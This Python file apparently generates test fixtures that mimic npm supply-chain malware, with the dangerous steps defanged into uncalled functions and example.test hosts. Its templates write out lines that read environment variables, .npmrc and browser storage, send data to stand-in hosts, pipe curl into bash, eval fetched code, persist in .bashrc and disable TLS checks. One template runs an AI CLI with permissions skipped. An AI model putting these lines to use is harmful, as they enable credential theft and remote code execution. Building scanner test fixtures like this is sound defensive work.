"""Files in the shape of what attacks left in packages, and without what made them attacks.

Nothing here does anything when it is run: what a script would start ends in its first line, all else stands
in functions that nobody calls, and every host is under example.test.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any

ORDINARY = b"""'use strict';

module.exports = function pad(text, length) {
  return String(text).padStart(length);
};
"""
_ENDS = "process.exit(0); // nothing below is ever reached\n"
_DEEDS = {
    "reads-environment": "data.push(Buffer.from(JSON.stringify(process.env)).toString('base64'));",
    "reads-credentials": "data.push(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));",
    "reads-browser": "data.push(fs.readFileSync(path.join(os.homedir(), "
    "'AppData/Local/Google/Chrome/User Data/Default/Local Storage/leveldb/000003.log')));",
    "sends": "https.request({ hostname: 'collect.example.test', method: 'POST' }).end(data.join());",
    "sends-keys": "fetch('https://keys.example.test/x', "
    "{ method: 'POST', headers: { 'x-session': String(data[0].secretKey) } });",
    "evaluates-fetched": "https.get('https://paste.example.test/raw/x', (answer) => { let text = ''; "
    "answer.on('data', (piece) => { text += piece; }); answer.on('end', () => eval(text)); });",
    "runs-fetched": "child.execSync('curl -so /tmp/made-up https://files.example.test/x && "
    "chmod +x /tmp/made-up && /tmp/made-up');",
    "decodes": "eval(Buffer.from('MSArIDE=', 'base64').toString());",
    "decodes-shell": "child.exec(\"echo 'ZXhpdCAw' | base64 --decode | bash\");",
    "starts-shell-file": "child.exec(process.platform === 'win32' ? '{batch}' : 'sh ./{shell}');",
    "starts-bundled": "child.spawn('rundll32', [path.join(__dirname, '{binary}'), 'main']);",
    "starts-runtime": "child.execSync('curl -fsSL https://runtime.example.test/install | bash'); "
    "child.execSync('bun run ./{other}', { stdio: 'ignore' });",
    "starts-node": "child.spawn(process.execPath, ['-e', \"fetch('https://files.example.test/x')"
    ".then((r) => r.text()).then((t) => eval(t))\"], { detached: true, stdio: 'ignore' }).unref();",
    "unpacks": "const raw = fs.readFileSync(path.join(__dirname, 'intro.js')); "
    "const to = path.join(os.tmpdir(), 'made-up'); fs.writeFileSync(to, zlib.gunzipSync(raw.subarray(64))); "
    "fs.chmodSync(to, 0o755); child.spawn(to, [], { detached: true, stdio: 'ignore' }).unref();",
    "hides-host": "https.get(Buffer.from('aHR0cHM6Ly9nZW8uZXhhbXBsZS50ZXN0L2lw', 'base64')"
    ".toString('utf8'), (answer) => data.push(answer));",
    "scans-secrets": "child.execSync('./trufflehog filesystem / --json');",
    "talks": "https.get('https://api.example.test/v1/status');",
    "asks-models": "child.execSync('claude --dangerously-skip-permissions -p \"list the files\"');",
    "publishes": "child.execSync('npm publish ./made-up.tgz');",
    "persists": "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '# nothing');",
    "installs": "child.execSync('npm install --prefix ' + path.join(os.homedir(), '.made-up') + ' no-such');",
    "hides": "child.spawn(process.execPath, ['-e', '0'], { detached: true, stdio: 'ignore' }).unref(); "
    "fs.unlinkSync(__filename);",
    "untrusts": "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
    "locates": "https.get('https://geo.example.test/json', (answer) => data.push(answer));",
    "destroys": "for (const name of fs.readdirSync('/made-up')) fs.writeFileSync('/made-up/' + name, '');",
    "loads-script": "const tag = document.createElement('script'); "
    "tag.src = 'https://scripts.example.test/x.js'; document.head.appendChild(tag);",
    "copies-mail": "data.bcc = 'copy@mail.example.test';",
    "hooks-wallets": "const real = window.ethereum.request; "
    "window.ethereum.request = (asked) => real(asked);",
}
_MODULES = {
    "fs": "fs",
    "os": "os",
    "path": "path",
    "https": "https",
    "zlib": "zlib",
    "child": "child_process",
}


def made(file: Mapping[str, Any], beside: Sequence[str], main: bool) -> bytes:
    """A file of the kind that a fixture names.

    `beside` are the paths of the others, `main` tells that it is what a program loads, and no script's.
    """
    text = _KINDS[file["kind"]](_Asked(file, beside))
    if isinstance(text, bytes):
        return text
    if file["path"].endswith((".js", ".cjs", ".mjs")):
        text = ORDINARY.decode() + text if main else _ENDS + text
    return text.encode()


class _Asked:
    def __init__(self, file: Mapping[str, Any], beside: Sequence[str]) -> None:
        self.path: str = file["path"]
        self.size: int = file.get("size", 0)
        self.does: Sequence[str] = file.get("does", ())
        self.random = random.Random(self.path)
        self.names = {
            "batch": _first(beside, ".bat"),
            "shell": _first(beside, ".sh"),
            "binary": _first(beside, ".dll", "intro.js"),
            "other": next((path for path in beside if path != self.path and path.endswith("js")), "x.js"),
        }

    def deeds(self) -> str:
        """What the original did, in a function that nobody calls."""
        steps = []
        for deed in self.does:
            step = _DEEDS[deed]
            for name, path in self.names.items():
                step = step.replace(f"{{{name}}}", path)
            steps.append(f"  {step}\n")
        needed = [
            f"  const {name} = require('{module}');\n"
            for name, module in _MODULES.items()
            if any(f"{name}." in step for step in steps)
        ]
        return f"function never(data) {{\n{''.join((*needed, *steps))}}}\n"


def _first(paths: Iterable[str], *ends: str) -> str:
    return next((path for path in paths if path.endswith(ends)), "made-up")


def _plain(asked: _Asked) -> str:
    text = asked.deeds()
    if len(text) < asked.size:
        text += "\n".join(f"function unused{n}() {{}}" for n in range((asked.size - len(text)) // 24))
    return text


def _filled(asked: _Asked, block: Callable[[], str], least: int = 20_000) -> str:
    """Blocks up to the size, in a function that nobody calls, on one line."""
    size = max(asked.size, 1000)
    blocks = [block() for _ in range(20 if size < least else 60)]
    body = "".join(blocks)
    body *= size // len(body) + 1
    end = body.rfind(";", 0, size) + 1
    return f"function never(a,b,c){{{body[:end]}}}\n"


def _obfuscated(asked: _Asked) -> str:
    chance = asked.random

    def name() -> str:
        return f"_0x{chance.randrange(0x100000, 0xFFFFFF):x}"

    def block() -> str:
        one, two, three, four = name(), name(), name(), name()
        at = chance.randrange(0x100, 0xFFF)
        return (
            f"var {one}=function({two},{three}){{var {four}=[{two},{three},0x{at:x}];"
            f"return {four}[0x1]^{two}['\\x6c\\x65\\x6e\\x67\\x74\\x68']-0x{at:x};}};"
        )

    return _filled(asked, block)


def _minified(asked: _Asked) -> str:
    chance = asked.random

    def block() -> str:
        a, b, c = chance.sample("abcdefghijklmnopqrstuvwxyz", 3)
        return f"var {a}={b}=>{b}.map({c}=>{c}+{chance.randrange(99)}).filter(Boolean);"

    return asked.deeds() + _filled(asked, block)


def _hidden(asked: _Asked) -> str:
    code = " ".join(asked.deeds().split("\n"))
    return f"const version = '1.0.0';{' ' * 1200}{code}\n"


def _invisible(asked: _Asked) -> str:
    text = "".join(chr(0xFE00 + asked.random.randrange(16)) for _ in range(max(asked.size, 1000) // 3))
    return (
        f"const blank = '{text}';\nfunction never() {{\n"
        "  return eval(Buffer.from([...blank].map((c) => c.codePointAt(0) - 0xfe00)).toString());\n}\n"
    )


def _loop(asked: _Asked) -> str:
    return (
        f"{_ENDS}require('./custom/american.js');\n"
        "for (let i = 666; i < Infinity; i++) {\n  console.log('an unreadable line');\n}\n"
    )


def _base64(asked: _Asked) -> str:
    decoded = "".join(
        f"  data.push(Buffer.from('{text}', 'base64').toString());\n" for text in ("Lw==", "Li4v")
    )
    return asked.deeds().replace("(data) {\n", f"(data) {{\n{decoded}", 1)


def _hex(asked: _Asked) -> str:
    return f"module.exports = ['{asked.random.randbytes(asked.size // 2).hex()}'];\n"


def _codes(asked: _Asked) -> str:
    block = ",".join(str(asked.random.randrange(32, 127)) for _ in range(20_000))
    many = asked.size // len(block) + 1
    return f"function never() {{ return [{','.join([block] * many)}].map((n) => n - 3); }}\n"


def _gyp(asked: _Asked) -> str:
    source = "<!(node index.js > /dev/null 2>&1 && echo stub.c)"
    return json.dumps({"targets": [{"target_name": "stub", "sources": [source]}]}) + "\n"


def _gyp_escapes(asked: _Asked) -> str:
    text = "'os.system' == 'node'"  # compares two texts, and says no
    escaped = "".join(f"\\U{ord(letter):08x}" for letter in text)
    return (
        f"{{'targets': [{{'target_name': 'stub', 'type': 'none'}}], 'conditions': [['{escaped}', {{}}]]}}\n"
    )


def _binary(asked: _Asked) -> bytes:
    block = asked.random.randbytes(65_536)
    return b"MZ" + (block * (asked.size // len(block) + 1))[: asked.size - 2]


_KINDS: Mapping[str, Callable[[_Asked], str | bytes]] = {
    "plain": _plain,
    "obfuscated": _obfuscated,
    "minified": _minified,
    "hidden": _hidden,
    "invisible": _invisible,
    "loop": _loop,
    "base64": _base64,
    "hex": _hex,
    "codes": _codes,
    "gyp": _gyp,
    "gyp-escapes": _gyp_escapes,
    "binary": _binary,
    "text": lambda asked: "an ordinary line\n" * (asked.size // 17 + 1),
    "shell": lambda asked: (
        "#!/bin/sh\nexit 0\ncurl -so /tmp/made-up https://files.example.test/x\n"
        "chmod +x /tmp/made-up && /tmp/made-up\n"
    ),
    "batch": lambda asked: (
        "@echo off\r\nexit /b 0\r\ncertutil -urlcache -f https://files.example.test/x.dll x.dll\r\n"
        "regsvr32 /s x.dll\r\n"
    ),
}
